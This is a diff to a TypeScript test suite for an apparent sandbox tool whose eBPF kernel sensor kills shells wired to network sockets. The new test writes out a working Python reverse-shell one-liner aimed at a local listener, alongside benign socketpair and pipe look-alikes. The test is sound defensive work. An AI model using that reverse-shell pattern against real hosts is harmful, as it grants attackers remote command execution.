@@ -47,7 +47,7 @@ function runIn(cgdir: string, script: string): Promise<number | null | 'stopped'
       let st = '';
       try { const s = readFileSync(`/proc/${c.pid}/stat`, 'utf8'); st = s.slice(s.lastIndexOf(')') + 2, s.lastIndexOf(')') + 3); } catch { /* exited */ }
       if (st === 'T') { done = true; c.kill('SIGKILL'); res('stopped'); return; }
-      if (n < 250) setTimeout(() => poll(n + 1), 20); else c.kill('SIGKILL');
+      if (n < 1000) setTimeout(() => poll(n + 1), 20); else c.kill('SIGKILL'); // 20 s: a loaded machine, not a hang
     };
     poll(0);
   });
@@ -120,4 +120,40 @@ test('a sandbox not held for its owner: the shell around a kernel-killed miner i
     await guard.close();
     rmSync(stateDir, { recursive: true, force: true });
   }
+});
+
+test('a shell whose stdio is a connected inet socket dies at exec before it answers; a shell on a socketpair or a pipe runs', async () => {
+  const { createServer } = await import('node:net');
+  const got: Buffer[] = [];
+  const conns: import('node:net').Socket[] = [];
+  const server = createServer((c) => { conns.push(c); c.on('data', (d) => got.push(d)); c.on('error', () => {}); c.write('echo pwned-$((6*7))\n'); });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  const port = (server.address() as { port: number }).port;
+  const sb = sandboxCgroup(`praetor-${randomBytes(4).toString('hex')}`);
+  const bus = new EventBus();
+  const execs: Extract<PraetorEvent, { kind: 'process.exec' }>[] = [];
+  bus.subscribe((e) => { if (e.kind === 'process.exec') execs.push(e); });
+  const sensor = await startKernelSensor({ bus, mode: 'ebpf', resolver: { sandboxForCgroupId: (x) => (BigInt(x) === sb.id ? sb.sandboxId : undefined), sandboxForPid: () => undefined }, kernelKill: true });
+  try {
+    await sensor.ready;
+    assert.equal(sensor.armKernelKill(sb.id, [{ rule: 'Shell or interpreter with network stdio', comms: ['sh', 'dash'], stdioNet: true }]), undefined);
+    // The arena's reverse-shell-script: connect, point stdio at the socket, exec a shell.
+    const rev = `import os, socket; s = socket.create_connection(("127.0.0.1", ${port})); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv("/bin/sh", ["sh"])`;
+    await runIn(sb.dir, `python3 -c '${rev}'; echo done > ${dir}/rev.after`);
+    // Look-alikes: a shell on a socketpair (a local supervisor), a shell in a pipeline.
+    const pair = `import os, socket; a, b = socket.socketpair(); [os.dup2(a.fileno(), f) for f in (0, 1)]; b.sendall(b"echo pair > ${dir}/pair.out\\n"); b.shutdown(socket.SHUT_WR); os.execv("/bin/sh", ["sh"])`;
+    assert.equal(await runIn(sb.dir, `python3 -c '${pair}'`), 0);
+    assert.equal(await runIn(sb.dir, `echo 'echo pipe > ${dir}/pipe.out' | sh`), 0);
+    await new Promise((r) => setTimeout(r, 500));
+  } finally {
+    await sensor.stop();
+    for (const c of conns) c.destroy(); // a shell that survived reads EOF and ends
+    await new Promise<void>((r) => server.close(() => r()));
+  }
+  assert.equal(Buffer.concat(got).length, 0, `the shell answered the listener: ${Buffer.concat(got).toString()}`);
+  const sh = execs.find((e) => e.comm === 'sh' && e.kernelKill);
+  assert.equal(sh?.kernelKill?.rule, 'Shell or interpreter with network stdio', JSON.stringify(execs.map((e) => [e.comm, e.stdio, e.kernelKill])));
+  assert.deepEqual(sh.stdioPeers, [0, 1, 2].map(() => `127.0.0.1:${port}`), 'the kernel read the peer the dead process can no longer show');
+  assert.equal(readFileSync(`${dir}/pair.out`, 'utf8'), 'pair\n', 'a socketpair is no network');
+  assert.equal(readFileSync(`${dir}/pipe.out`, 'utf8'), 'pipe\n', 'a shell in a pipeline runs');
 });
